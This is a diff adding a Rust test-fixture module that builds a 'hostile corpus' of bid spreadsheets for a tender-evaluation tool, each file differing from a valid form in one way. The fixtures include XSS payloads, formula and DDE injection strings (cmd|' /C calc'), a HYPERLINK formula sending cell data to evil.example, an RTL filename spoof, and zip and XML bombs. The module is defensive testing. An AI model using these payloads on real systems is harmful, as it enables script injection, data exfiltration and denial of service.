@@ -1,0 +1,483 @@
+//! The hostile corpus: bid forms, score sheets and files a competitor (or an accident)
+//! could send, built from the sample tender's own bid form so that each file differs from
+//! a real form in exactly one hostile way.
+//!
+//! Used by `examples/hostile_corpus.rs` (writes the small files into `tests/hostile/`) and
+//! by `tests/hostile.rs` (builds the large ones, such as the million-row sheet, at test
+//! time). Deterministic, except `password.xlsx` (made by LibreOffice, which salts the
+//! encryption), which the example makes only when `soffice` is installed.
+
+#![allow(dead_code)]
+
+use std::collections::BTreeMap;
+use std::io::{Cursor, Read, Write};
+use std::path::{Path, PathBuf};
+
+use rust_decimal::Decimal;
+use tender::form::layout::{self, Key};
+use tender::load::{LoadedTender, load_valid};
+use tender::model::Bid;
+use zip::write::SimpleFileOptions;
+
+/// The repository root.
+pub fn root() -> PathBuf {
+    PathBuf::from(env!("CARGO_MANIFEST_DIR"))
+}
+
+/// The sample tender folder.
+pub fn sample_dir() -> PathBuf {
+    root().join("samples/activerend-werk")
+}
+
+/// The sample tender.
+pub fn sample() -> LoadedTender {
+    load_valid(&sample_dir()).expect("the sample loads")
+}
+
+/// The bid every hostile bid starts from: samen-verder (complete and admitted).
+pub fn base_bid(t: &LoadedTender) -> Bid {
+    tender::load::bid::read_bid(&sample_dir().join("bids/samen-verder.xlsx"), Some(t))
+        .expect("the sample bid reads")
+        .bid
+}
+
+/// The archive's entries, by name, in order.
+pub fn unzip(bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
+    let mut z = zip::ZipArchive::new(Cursor::new(bytes)).expect("a zip");
+    (0..z.len())
+        .map(|i| {
+            let mut f = z.by_index(i).expect("an entry");
+            let name = f.name().expect("a name").to_string();
+            let mut data = Vec::new();
+            f.read_to_end(&mut data).expect("entry data");
+            (name, data)
+        })
+        .collect()
+}
+
+/// An archive of `entries`, deflated, with the fixed 1980 timestamp.
+pub fn zip(entries: &[(String, Vec<u8>)]) -> Vec<u8> {
+    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
+    let opts = SimpleFileOptions::DEFAULT
+        .compression_method(zip::CompressionMethod::Deflated)
+        .large_file(false);
+    for (name, data) in entries {
+        // An OpenDocument file starts with its type, stored uncompressed.
+        let opts = if name == "mimetype" {
+            opts.compression_method(zip::CompressionMethod::Stored)
+        } else {
+            opts
+        };
+        w.start_file(name.as_str(), opts).expect("start entry");
+        w.write_all(data).expect("write entry");
+    }
+    w.finish().expect("finish zip").into_inner()
+}
+
+/// Rewrites the entries of an archive; `edit` returns the new data of an entry, or `None`
+/// to keep it.
+pub fn rezip(bytes: &[u8], mut edit: impl FnMut(&str, &[u8]) -> Option<Vec<u8>>) -> Vec<u8> {
+    let entries: Vec<(String, Vec<u8>)> = unzip(bytes)
+        .into_iter()
+        .map(|(n, d)| {
+            let new = edit(&n, &d).unwrap_or(d);
+            (n, new)
+        })
+        .collect();
+    zip(&entries)
+}
+
+/// The worksheet part of a sheet, by the order of `<sheet name=...>` in workbook.xml.
+pub fn sheet_part(form: &[u8], sheet: &str) -> String {
+    let wb = unzip(form)
+        .into_iter()
+        .find(|(n, _)| n == "xl/workbook.xml")
+        .expect("workbook.xml")
+        .1;
+    let wb = String::from_utf8(wb).expect("utf-8");
+    let names: Vec<String> = wb
+        .split("<sheet ")
+        .skip(1)
+        .filter_map(|s| s.split("name=\"").nth(1))
+        .filter_map(|s| s.split('"').next())
+        .map(|s| s.replace("&apos;", "'").replace("&amp;", "&"))
+        .collect();
+    let i = names.iter().position(|n| n == sheet).expect("the sheet");
+    format!("xl/worksheets/sheet{}.xml", i + 1)
+}
+
+/// Replaces the cell `cell` (e.g. `B12`) of a worksheet's XML with `new` (a whole `<c>`).
+pub fn replace_cell(xml: &str, cell: &str, new: &str) -> String {
+    let re = regex::Regex::new(&format!(r#"<c r="{cell}"[^>]*?(/>|>.*?</c>)"#)).expect("regex");
+    assert!(re.is_match(xml), "cell {cell} not found");
+    re.replace(xml, regex::NoExpand(new)).into_owned()
+}
+
+/// The form with one input cell replaced by raw cell XML (`{r}` stands for the reference).
+pub fn with_cell(t: &LoadedTender, form: &[u8], key: &Key, cell_xml: &str) -> Vec<u8> {
+    let lay = layout::layout(t);
+    let input = lay.get(key).expect("the input");
+    let part = sheet_part(form, &input.sheet);
+    let r = layout::a1(input.row, input.col);
+    let new = cell_xml.replace("{r}", &r);
+    rezip(form, |name, data| {
+        (name == part).then(|| replace_cell(&String::from_utf8_lossy(data), &r, &new).into_bytes())
+    })
+}
+
+/// The sample tender with its YAML edited (`from` replaced by `to`), loaded from a
+/// temporary folder.
+pub fn edited_tender(from: &str, to: &str) -> LoadedTender {
+    let text = std::fs::read_to_string(sample_dir().join("tender.yaml")).expect("sample yaml");
+    assert!(text.contains(from), "{from} not in the sample");
+    let dir = tempfile::tempdir().expect("tempdir");
+    std::fs::write(dir.path().join("tender.yaml"), text.replacen(from, to, 1)).expect("write");
+    let t = load_valid(dir.path()).expect("the edited tender is valid");
+    // The loaded tender keeps no handle on the folder.
+    drop(dir);
+    t
+}
+
+fn form(t: &LoadedTender, bid: &Bid) -> Vec<u8> {
+    tender::form::write_form(t, Some(bid)).expect("form")
+}
+
+fn answer_key() -> Key {
+    Key::Answer("P1".into(), "veiligheid".into())
+}
+
+fn tariff_key() -> Key {
+    Key::Tariff("P1".into(), "basis".into())
+}
+
+/// A bid with hostile text in the provider's name, e-mail and the first P1 answer.
+fn text_bid(t: &LoadedTender, name: &str, email: Option<&str>, answer: &str) -> Vec<u8> {
+    let mut b = base_bid(t);
+    b.provider.name = name.to_string();
+    if let Some(e) = email {
+        b.provider.email = e.to_string();
+    }
+    b.offers[0]
+        .answers
+        .insert("veiligheid".into(), answer.to_string());
+    form(t, &b)
+}
+
+/// Hostile texts, by file name: (provider name, answer).
+pub const TEXTS: [(&str, &str, &str); 8] = [
+    (
+        "script-answer.xlsx",
+        "Stichting <script>alert('naam')</script>",
+        "<script>alert(document.cookie)</script> Veiligheid staat bij ons voorop.",
+    ),
+    (
+        "img-onerror.xlsx",
+        "Werkbedrijf <img src=x onerror=alert(1)>",
+        "<img src=x onerror=\"alert(1)\"> Wij werken veilig.",
+    ),
+    (
+        "javascript-link.xlsx",
+        "[Klik hier](javascript:alert(1))",
+        "Lees [ons veiligheidsplan](javascript:alert(document.domain)) en <a href=\"javascript:alert(2)\">dit</a>.",
+    ),
+    (
+        "markdown-raw-html.xlsx",
+        "Zorg & Werk <b onclick=\"alert(1)\">B.V.</b>",
+        "<iframe src=\"https://evil.example/\"></iframe>\n\n<div style=\"position:fixed;top:0\">nep-uitslag</div> **echt vet**",
+    ),
+    (
+        "formula-hyperlink.xlsx",
+        "=HYPERLINK(\"https://evil.example/?d=\"&A1,\"Klik hier\")",
+        "=HYPERLINK(\"https://evil.example/\",\"Bekijk ons plan\")",
+    ),
+    (
+        "formula-at-sum.xlsx",
+        "@SUM(1+9)*cmd|' /C calc'!A0",
+        "@SUM(A1:A9) is ons antwoord.",
+    ),
+    (
+        "formula-plus-cmd.xlsx",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C notepad'!A0",
+    ),
+    (
+        "rtl-text.xlsx",
+        "مؤسسة العمل \u{202e}xslx.exe",
+        "אנו עובדים בבטחה. نحن نعمل بأمان. \u{202e}Veilig\u{202c} werken.",
+    ),
+];
+
+/// Every corpus file that is small on disk, by file name.
+pub fn small_files() -> BTreeMap<String, Vec<u8>> {
+    let t = sample();
+    let base = form(&t, &base_bid(&t));
+    let mut out: BTreeMap<String, Vec<u8>> = BTreeMap::new();
+    let mut put = |name: &str, bytes: Vec<u8>| {
+        out.insert(name.to_string(), bytes);
+    };
+
+    // Hostile text: must come out inert in every output.
+    for (file, name, answer) in TEXTS {
+        let email = (file == "javascript-link.xlsx").then_some("javascript:alert(3)");
+        put(file, text_bid(&t, name, email, answer));
+    }
+
+    // Amounts and dates.
+    let mut neg = base_bid(&t);
+    neg.offers[0]
+        .tariffs
+        .insert("basis".into(), Decimal::new(-598, 0));
+    put("tariff-negative.xlsx", form(&t, &neg));
+    put(
+        "tariff-1e300.xlsx",
+        with_cell(&t, &base, &tariff_key(), r#"<c r="{r}"><v>1E+300</v></c>"#),
+    );
+    put(
+        "tariff-nan-text.xlsx",
+        with_cell(
+            &t,
+            &base,
+            &tariff_key(),
+            r#"<c r="{r}" t="inlineStr"><is><t>NaN</t></is></c>"#,
+        ),
+    );
+    put(
+        "date-before-1900.xlsx",
+        with_cell(
+            &t,
+            &base,
+            &tariff_key(),
+            r#"<c r="{r}" t="d"><v>1899-12-31T00:00:00</v></c>"#,
+        ),
+    );
+    put(
+        "formula-without-value.xlsx",
+        with_cell(&t, &base, &tariff_key(), r#"<c r="{r}"><f>598*1</f></c>"#),
+    );
+
+    // Sizes: a 10 MB answer (small on disk, it compresses), a cell far out, a bomb.
+    let ten_mb = "A".repeat(10 * 1024 * 1024);
+    put(
+        "huge-cell.xlsx",
+        with_cell(
+            &t,
+            &base,
+            &answer_key(),
+            &format!(r#"<c r="{{r}}" t="inlineStr"><is><t>{ten_mb}</t></is></c>"#),
+        ),
+    );
+    let first = sheet_part(&base, "Aanbieder");
+    put(
+        "far-cell.xlsx",
+        rezip(&base, |name, data| {
+            (name == first).then(|| {
+                String::from_utf8_lossy(data)
+                    .replace(
+                        "</sheetData>",
+                        r#"<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row></sheetData>"#,
+                    )
+                    .into_bytes()
+            })
+        }),
+    );
+    put(
+        "shared-strings-bomb.xlsx",
+        rezip(&base, |name, data| {
+            (name == "xl/sharedStrings.xml").then(|| {
+                let s = String::from_utf8_lossy(data);
+                regex::Regex::new(r#"uniqueCount="\d+""#)
+                    .expect("regex")
+                    .replace(&s, r#"uniqueCount="4000000000""#)
+                    .into_owned()
+                    .into_bytes()
+            })
+        }),
+    );
+    let mut bomb = unzip(&base);
+    bomb.push(("xl/media/image1.png".into(), vec![0u8; 60 * 1024 * 1024]));
+    put("zip-bomb.xlsx", zip(&bomb));
+
+    // An .ods whose one filled row is repeated a million times, 16,000 cells wide.
+    let ods = std::fs::read(sample_dir().join("bids/de-vlinderhof.ods")).expect("ods");
+    put(
+        "ods-repeat-bomb.ods",
+        rezip(&ods, |name, data| {
+            (name == "content.xml").then(|| {
+                String::from_utf8_lossy(data)
+                    .replacen(
+                        "</table:table>",
+                        r#"<table:table-row table:number-rows-repeated="1000000"><table:table-cell table:number-columns-repeated="16000" office:value-type="float" office:value="1"><text:p>1</text:p></table:table-cell></table:table-row></table:table>"#,
+                        1,
+                    )
+                    .into_bytes()
+            })
+        }),
+    );
+
+    // Text encoding: Latin-1 bytes inside the UTF-8 shared strings.
+    put(
+        "non-utf8.xlsx",
+        rezip(&base, |name, data| {
+            (name == "xl/sharedStrings.xml").then(|| {
+                let s = String::from_utf8_lossy(data).into_owned();
+                let mut b = s
+                    .replacen("Stichting Samen Verder Werkt", "Stichting Caf\u{0}", 1)
+                    .into_bytes();
+                let p = b.iter().position(|x| *x == 0).expect("marker");
+                b[p] = 0xe9; // é in Latin-1: not UTF-8
+                b
+            })
+        }),
+    );
+
+    // Named ranges.
+    let lay = layout::layout(&t);
+    let name_input = lay.get(&Key::Name).expect("name input");
+    let kvk_input = lay.get(&Key::Kvk).expect("kvk input");
+    put(
+        "duplicate-names.xlsx",
+        rezip(&base, |name, data| {
+            (name == "xl/workbook.xml").then(|| {
+                let s = String::from_utf8_lossy(data);
+                s.replacen(
+                    "<definedNames>",
+                    &format!(
+                        r#"<definedNames><definedName name="{}">{}</definedName>"#,
+                        name_input.name,
+                        kvk_input.abs_ref().replace('\'', "&apos;")
+                    ),
+                    1,
+                )
+                .into_bytes()
+            })
+        }),
+    );
+    put(
+        "missing-names.xlsx",
+        rezip(&base, |name, data| {
+            (name == "xl/workbook.xml").then(|| {
+                regex::Regex::new(r"(?s)<definedNames>.*</definedNames>")
+                    .expect("regex")
+                    .replace(&String::from_utf8_lossy(data), "")
+                    .into_owned()
+                    .into_bytes()
+            })
+        }),
+    );
+
+    // Forms of another tender and of an older version of this one.
+    let other = edited_tender("id: AW-2017", "id: AW-2099");
+    put("other-tender.xlsx", form(&other, &base_bid(&t)));
+    let older = edited_tender("version: 1", "version: 0");
+    put("older-version.xlsx", form(&older, &base_bid(&t)));
+
+    // Not a bid form at all.
+    put("empty.xlsx", Vec::new());
+    put(
+        "csv-renamed.xlsx",
+        b"naam;kvk;tarief\nStichting Samen Verder Werkt;41234567;598\n".to_vec(),
+    );
+    put("corrupt-zip.xlsx", base[..base.len() / 2].to_vec());
+    let mut ole = vec![0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1];
+    ole.resize(4096, 0);
+    put("old-excel.xlsx", ole);
+    let mut plain = rust_xlsxwriter::Workbook::new();
+    let created = rust_xlsxwriter::ExcelDateTime::from_ymd(2016, 10, 1).expect("date");
+    plain.set_properties(&rust_xlsxwriter::DocProperties::new().set_creation_datetime(&created));
+    plain
+        .add_worksheet()
+        .write_string(0, 0, "Onze inschrijving")
+        .expect("write");
+    put(
+        "not-a-bid-form.xlsx",
+        plain.save_to_buffer().expect("plain workbook"),
+    );
+
+    // A score sheet with a score that is not a number.
+    let sheet = std::fs::read(sample_dir().join("scores/score-E1.xlsx")).expect("sheet");
+    let (target_sheet, target_cell) = score_cell(&sheet);
+    let part = sheet_part(&sheet, &target_sheet);
+    put(
+        "score-sheet-nan.xlsx",
+        rezip(&sheet, |name, data| {
+            (name == part).then(|| {
+                replace_cell(
+                    &String::from_utf8_lossy(data),
+                    &target_cell,
+                    &format!(r#"<c r="{target_cell}" t="inlineStr"><is><t>NaN</t></is></c>"#),
+                )
+                .into_bytes()
+            })
+        }),
+    );
+    out
+}
+
+/// The sheet and cell of the first score in a score sheet (defined name `tender_score_0001`).
+pub fn score_cell(sheet: &[u8]) -> (String, String) {
+    let wb = unzip(sheet)
+        .into_iter()
+        .find(|(n, _)| n == "xl/workbook.xml")
+        .expect("workbook.xml")
+        .1;
+    let wb = String::from_utf8(wb).expect("utf-8");
+    let re =
+        regex::Regex::new(r#"<definedName name="tender_score_0001"[^>]*>([^<]*)</definedName>"#)
+            .expect("regex");
+    let target = re
+        .captures(&wb)
+        .expect("tender_score_0001")
+        .get(1)
+        .expect("target")
+        .as_str()
+        .replace("&apos;", "'");
+    let (s, r, c) = tender::load::bid::parse_target(&target).expect("a target");
+    (s, layout::a1(r, c))
+}
+
+/// The million-row sheet: the sample bid with a million filled rows added to its first
+/// sheet (built at test time, as a million rows take time to write).
+pub fn million_rows() -> Vec<u8> {
+    let t = sample();
+    let base = form(&t, &base_bid(&t));
+    let first = sheet_part(&base, "Aanbieder");
+    rezip(&base, |name, data| {
+        (name == first).then(|| {
+            // Rows without `r` follow the one before (26 bytes a row: 26 MB unpacked).
+            let rows = format!(
+                "{}</sheetData>",
+                "<row><c><v>1</v></c></row>".repeat(1_000_000)
+            );
+            String::from_utf8_lossy(data)
+                .replace("</sheetData>", &rows)
+                .into_bytes()
+        })
+    })
+}
+
+/// A tender file in Latin-1 (not UTF-8).
+pub fn latin1_tender() -> Vec<u8> {
+    let text = std::fs::read_to_string(sample_dir().join("tender.yaml"))
+        .expect("sample yaml")
+        .replacen(
+            "Activerend Werk 2017-2018",
+            "Activerend Werk 2017-2018 (café)",
+            1,
+        );
+    text.chars()
+        .map(|c| u8::try_from(u32::from(c)).unwrap_or(b'?'))
+        .collect()
+}
+
+/// Writes `password.xlsx`: the sample bid encrypted with the password `geheim` (ECMA-376
+/// agile encryption, as Excel's "Encrypt with password") by `msoffcrypto-tool` (PyPI:
+/// `pip install msoffcrypto-tool`). `false` when the tool is not installed.
+pub fn password_protected(target: &Path) -> bool {
+    let ok = std::process::Command::new("msoffcrypto-tool")
+        .args(["-e", "-p", "geheim"])
+        .arg(sample_dir().join("bids/samen-verder.xlsx"))
+        .arg(target)
+        .output()
+        .is_ok_and(|o| o.status.success());
+    ok && std::fs::read(target).is_ok_and(|b| b.starts_with(&[0xD0, 0xCF, 0x11, 0xE0]))
+}
